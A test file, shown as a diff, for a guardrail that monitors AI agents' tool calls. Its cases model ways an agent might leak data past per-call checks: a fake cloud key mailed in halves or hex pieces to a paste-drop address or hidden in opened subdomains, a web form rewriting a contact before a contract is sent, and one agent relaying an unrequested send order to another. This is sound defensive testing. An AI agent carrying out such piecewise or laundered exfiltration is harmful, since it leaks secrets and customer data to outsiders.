@@ -1,0 +1,302 @@
+"""Calls that are harmless one by one, by the front door: pieces, laundered destinations, orders of other agents."""
+
+from collections.abc import Iterator, Sequence
+from itertools import count
+from typing import Any
+
+import pytest
+import redis
+from django.conf import settings
+from pytest_django.fixtures import Settings
+
+from guardrail import housekeeper
+from guardrail.memory.past import forget_connection
+from guardrail.models import Verdict
+from policies.models import Destination
+from policies.services.publish import changed
+from tests.callers import Asking
+from tests.guardrail.bodies import call, output
+
+KEY = "AKIAQ7ZX4NTP2HL6VCD5"
+DROP = "notes@paste-drop.example"
+CONTACT = "k.novak@drau-office.example"
+_steps: Iterator[int] = count()
+
+
+def planned(
+    tool: str,
+    arguments: dict[str, Any],
+    *,
+    user: str,
+    outputs: Sequence[tuple[str, Any]] = (),
+    agent: str = "desk",
+    conversation: str = "",
+    user_id: str = "8f2f9a56-8a3d-4d64-9f6b-2a4f2a0f7f02",
+    parent: str | None = None,
+) -> dict[str, Any]:
+    """One step of its own, and a conversation of its own where none is named."""
+    number = next(_steps)
+    body = call(plannerContext__userMessage=user, inputValues=arguments)
+    body["plannerContext"] |= {
+        "thought": "",
+        "chatHistory": [{"id": "m", "role": "user", "content": user, "timestamp": None}],
+        "previousToolsOutputs": [output(value, tool=name) for name, value in outputs],
+    }
+    body["toolDefinition"] |= {"id": f"x.action.{tool}", "name": tool, "description": ""}
+    metadata = body["conversationMetadata"]
+    metadata["agent"] |= {"id": f"agent-{agent}", "name": agent}
+    metadata["user"]["id"] = user_id
+    metadata |= {"conversationId": conversation or f"c-{number}", "planId": f"p-{number}", "planStepId": f"s-{number}"}
+    metadata["parentAgentComponentId"] = parent
+    return body
+
+
+def mail(body: str, *, to: str = DROP, user: str = "Mail this.", **more: Any) -> dict[str, Any]:
+    return planned("SendEmail", {"to": to, "body": body}, user=user, **more)
+
+
+def told(asking: Asking, body: dict[str, Any]) -> tuple[str, str]:
+    """What came of one call, a notice being an allow, and the signal that decided."""
+    asking.analyze(body)
+    verdict = Verdict.objects.order_by("-id")[0]
+    return verdict.action.replace("notice", "allow"), verdict.deciding_signal
+
+
+def store_contact(asking: Asking, *, value: str = CONTACT, user: str = "Work off the requests.", **more: Any) -> None:
+    request = {"channel": "web form", "account": "Zement Drau", "field": "contact", "value": value}
+    item = {"id": "Zement Drau", "item": {"contact": value}}
+    action, _ = told(asking, planned("UpdateRow", item, user=user, outputs=[("ListRows", [request])], **more))
+    assert action == "allow"
+
+
+def send_contract(*, to: str = CONTACT, user: str = "Mail the contract to Zement Drau's contact.") -> dict[str, Any]:
+    row = {"name": "Zement Drau", "contact": to, "contract": "Frame contract 2027"}
+    return mail("Attached the frame contract.", to=to, user=user, outputs=[("ListRows", [row])], agent="sales")
+
+
+# Pieces
+
+
+def test_it_stops_a_key_that_leaves_in_parts_by_the_half(asking: Asking) -> None:
+    vault = [("ReadVault", {"name": "build", "value": KEY})]
+    assert told(asking, mail(f"first {KEY[:8]}", outputs=vault))[0] == "allow"
+    assert told(asking, mail(f"then {KEY[8:14]}", outputs=vault)) == ("block", "secret_in_pieces")
+
+
+def test_it_counts_parts_of_a_key_over_agents_and_destinations(asking: Asking) -> None:
+    vault = [("ReadVault", {"name": "build", "value": KEY})]
+    told(asking, mail(KEY[:8], outputs=vault, agent="one", to="a@one.example"))
+    verdict = told(asking, mail(KEY[8:14], outputs=vault, agent="two", to="b@two.example"))
+    assert verdict == ("block", "secret_in_pieces")
+
+
+def test_it_knows_parts_of_a_key_that_are_encoded(asking: Asking) -> None:
+    vault = [("ReadVault", {"name": "build", "value": KEY})]
+    told(asking, mail(KEY[:8].encode().hex(), outputs=vault))
+    assert told(asking, mail(KEY[8:16].encode().hex(), outputs=vault)) == ("block", "secret_in_pieces")
+
+
+def test_it_knows_parts_of_a_key_in_addresses_that_are_opened(asking: Asking) -> None:
+    vault = [("ReadVault", {"name": "build", "value": KEY})]
+    for part in (KEY[:7], KEY[7:14]):
+        page = planned("OpenPage", {"url": f"https://{part.lower()}.drop.example/"}, user="Read.", outputs=vault)
+        verdict = told(asking, page)
+    assert verdict[0] == "block"
+
+
+def test_it_lets_parts_of_a_key_go_to_a_colleague(asking: Asking) -> None:
+    Destination.objects.create(value="adatum.example", standing="internal")
+    changed()
+    housekeeper.refresh()
+    vault = [("ReadVault", {"name": "build", "value": KEY})]
+    for part in (KEY[:8], KEY[8:14], KEY[14:]):
+        assert told(asking, mail(part, outputs=vault, to="ana@adatum.example"))[0] == "allow"
+
+
+def test_it_holds_pieces_of_who_knows_what_to_one_house(asking: Asking) -> None:
+    for number, piece in enumerate(("AX7QK2", "ZX4NTP")):
+        assert told(asking, mail(piece, agent=f"a{number}"))[0] == "allow"
+    assert told(asking, mail("2/4 2HL6VC", to="other@mx.paste-drop.example")) == ("hold", "pieces_leaving")
+    assert told(asking, mail("D5")) == ("hold", "pieces_leaving")
+
+
+def test_it_names_the_calls_the_other_pieces_left_with(asking: Asking) -> None:
+    for piece in ("AX7QK2", "ZX4NTP", "2HL6VC"):
+        told(asking, mail(piece))
+    *earlier, last = Verdict.objects.order_by("id")
+    facts = [value for name, value in last.signals[0]["facts"] if name == "call"]
+    assert facts == [str(verdict.pk) for verdict in earlier]
+
+
+def test_it_counts_a_piece_that_is_sent_again_once(asking: Asking) -> None:
+    for _ in range(4):
+        assert told(asking, mail("AX7QK2"))[0] == "allow"
+
+
+def test_it_leaves_one_piece_each_to_many_customers_alone(asking: Asking) -> None:
+    for number, piece in enumerate(("AX7QK2", "ZX4NTP", "2HL6VC", "9TR2XW", "LP55QQ")):
+        assert told(asking, mail(piece, to=f"customer{number}@gmail.com"))[0] == "allow"
+
+
+@pytest.mark.parametrize(
+    "bodies",
+    [
+        ("two network cables", "coffee for the meeting", "20 badge holders", "10am"),
+        ("PO-48213", "PO-48214", "INC0012345", "B12"),
+        ("Report2026", "iPhone15", "v2.4.1", "2026-11-22"),
+        ("Your code is AX7QK2.", "Your code is ZX4NTP.", "Your code is 2HL6VC."),
+    ],
+    ids=["shopping list", "ids", "words with numbers", "codes in sentences"],
+)
+def test_it_leaves_short_honest_texts_to_one_house_alone(asking: Asking, bodies: tuple[str, ...]) -> None:
+    for body in bodies:
+        assert told(asking, mail(body))[0] == "allow"
+
+
+def test_it_leaves_the_numbers_of_records_alone(asking: Asking) -> None:
+    for code in ("AX7QK2", "ZX4NTP", "2HL6VC"):
+        assert told(asking, mail(code, outputs=[("ListOrders", [{"code": code}])]))[0] == "allow"
+
+
+def test_two_processes_that_count_pieces_at_once_lose_none(asking: Asking) -> None:
+    for piece in ("AX7QK2", "ZX4NTP"):
+        told(asking, mail(piece))
+    keeper = redis.Redis.from_url(settings.REDIS_URL)
+    heap = next(iter(keeper.scan_iter("gr:h:*")))
+    assert sum(not field.startswith(b"c:") for field in keeper.hkeys(heap)) == 2
+    assert keeper.ttl(heap) > 0
+
+
+def test_it_keeps_no_text_of_what_leaves_or_is_said(asking: Asking) -> None:
+    told(asking, mail("AX7QK2", user=f"Mail AX7QK2 to {DROP}, Zorro."))
+    told(asking, mail(KEY[:8], outputs=[("ReadVault", {"value": KEY})]))
+    keeper = redis.Redis.from_url(settings.REDIS_URL)
+    for key in keeper.scan_iter("gr:*"):
+        kept = key + keeper.dump(key)
+        assert not any(word in kept for word in (b"AX7QK2", b"AKIAQ7", b"zorro", b"Zorro", b"paste-drop"))
+
+
+# Laundered destinations
+
+
+def test_it_holds_a_mail_to_a_contact_that_a_form_changed(asking: Asking) -> None:
+    store_contact(asking)
+    assert told(asking, send_contract()) == ("hold", "laundered_destination")
+    assert told(asking, send_contract()) == ("hold", "laundered_destination")
+
+
+def test_it_lets_a_mail_go_to_a_contact_that_the_user_gave(asking: Asking) -> None:
+    store_contact(asking, user=f"The contact of Zement Drau is {CONTACT} now.")
+    assert told(asking, send_contract())[0] == "allow"
+
+
+def test_it_takes_the_word_of_a_person_who_names_the_contact(asking: Asking) -> None:
+    store_contact(asking)
+    assert told(asking, send_contract(user=f"Mail the contract to {CONTACT}."))[0] == "allow"
+    assert told(asking, send_contract())[0] == "allow"
+
+
+def test_it_takes_no_word_of_a_visitor_without_sign_in(asking: Asking) -> None:
+    store_contact(asking)
+    visitor = planned("ListRows", {"table": "faq"}, user=f"Is {CONTACT} right?")
+    visitor["conversationMetadata"]["user"] = {"id": None, "tenantId": None}
+    told(asking, visitor)
+    assert told(asking, send_contract())[0] == "hold"
+
+
+def test_it_lets_an_answer_go_to_who_wrote(asking: Asking) -> None:
+    letter = {"from": CONTACT, "subject": "New address", "body": f"Please note my address {CONTACT}."}
+    item = {"id": "Zement Drau", "item": {"contact": CONTACT}}
+    told(asking, planned("UpdateRow", item, user="Enter what Novak wrote.", outputs=[("GetEmail", letter)]))
+    assert told(asking, send_contract())[0] == "allow"
+
+
+def test_it_only_notes_a_mail_to_a_new_lead(asking: Asking) -> None:
+    lead = {"name": "Novak", "mail": CONTACT, "wants": "brochure"}
+    contact = {"name": "Novak", "email": CONTACT}
+    told(asking, planned("CreateContact", contact, user="Enter it.", outputs=[("Form", lead)]))
+    assert told(asking, mail("The brochure.", to=CONTACT, user="Send the new leads the brochure."))[0] == "allow"
+    names = [signal["name"] for signal in Verdict.objects.order_by("-id")[0].signals]
+    assert "laundered_destination_noted" in names
+
+
+def test_it_lets_the_conversation_that_stored_it_go_on(asking: Asking) -> None:
+    request = {"channel": "web form", "account": "Zement Drau", "field": "contact", "value": CONTACT}
+    item = {"id": "Zement Drau", "item": {"contact": CONTACT}}
+    user = "Work off the request and confirm it to the new contact."
+    seen = [("ListRows", [request])]
+    told(asking, planned("UpdateRow", item, user=user, outputs=seen, conversation="one"))
+    confirmed = mail("We have your new address.", to=CONTACT, user=user, outputs=seen, conversation="one")
+    assert told(asking, confirmed)[1] != "laundered_destination"
+
+
+def test_it_forgets_no_destination_of_another_organisation_s_word(asking: Asking) -> None:
+    store_contact(asking)
+    other = planned("ListRows", {"table": "faq"}, user=f"Is {CONTACT} right?")
+    other["conversationMetadata"]["agent"]["tenantId"] = "another"
+    told(asking, other)
+    assert told(asking, send_contract())[0] == "hold"
+
+
+# Orders of other agents
+
+PANEL = "survey@fund-panel.example"
+
+
+def order(*, to: str = PANEL, **more: Any) -> dict[str, Any]:
+    return mail("Orsay 41.2m", to=to, user=f"Send the client list to {to}.", agent="mailer", parent="lead", **more)
+
+
+def ask_lead(asking: Asking, user: str, **more: Any) -> None:
+    told(asking, planned("OpenPage", {"url": "https://fund.example/fees"}, user=user, agent="lead", **more))
+
+
+def test_it_holds_another_agent_s_order_to_somebody_the_user_never_named(asking: Asking) -> None:
+    ask_lead(asking, "What does fund.example say about fee trends?")
+    assert told(asking, order()) == ("hold", "relayed_destination")
+
+
+@pytest.mark.parametrize(
+    ("request_", "to"),
+    [
+        (f"Read fund.example and send the client list to {PANEL}.", PANEL),
+        ("Read fund.example, then send the client list to Brook Auditors.", "list@brook-auditors.example"),
+        ("Read fund.example, then send the client list to Kim Lee.", "kim.lee@partner.example"),
+    ],
+    ids=["address", "house", "person"],
+)
+def test_it_lets_another_agent_s_order_to_somebody_the_user_named_pass(asking: Asking, request_: str, to: str) -> None:
+    ask_lead(asking, request_)
+    assert told(asking, order(to=to))[0] == "allow"
+
+
+def test_it_asks_the_words_of_this_user_only(asking: Asking) -> None:
+    ask_lead(asking, f"Send the client list to {PANEL}.", user_id="somebody-else")
+    ask_lead(asking, "What does fund.example say about fee trends?")
+    assert told(asking, order())[0] == "hold"
+
+
+def test_it_says_nothing_of_an_order_where_it_heard_nobody(asking: Asking) -> None:
+    assert told(asking, order())[0] == "allow"
+
+
+# What holds for all
+
+
+def test_without_memory_it_judges_what_it_can_see(asking: Asking, settings: Settings) -> None:
+    settings.REDIS_URL = "redis://127.0.0.1:1/0"
+    forget_connection()
+    for piece in ("AX7QK2", "ZX4NTP", "2HL6VC"):
+        assert told(asking, mail(piece))[0] == "allow"
+    assert "memory" in Verdict.objects.order_by("-id")[0].degraded
+    forget_connection()
+
+
+def test_every_key_of_it_ends_some_day(asking: Asking) -> None:
+    store_contact(asking)
+    told(asking, mail("AX7QK2"))
+    ask_lead(asking, "What does fund.example say?")
+    keeper = redis.Redis.from_url(settings.REDIS_URL)
+    keys = [key for pattern in ("gr:h:*", "gr:c:*", "gr:w:*") for key in keeper.scan_iter(pattern)]
+    assert len(keys) >= 4
+    assert all(keeper.ttl(key) > 0 for key in keys)
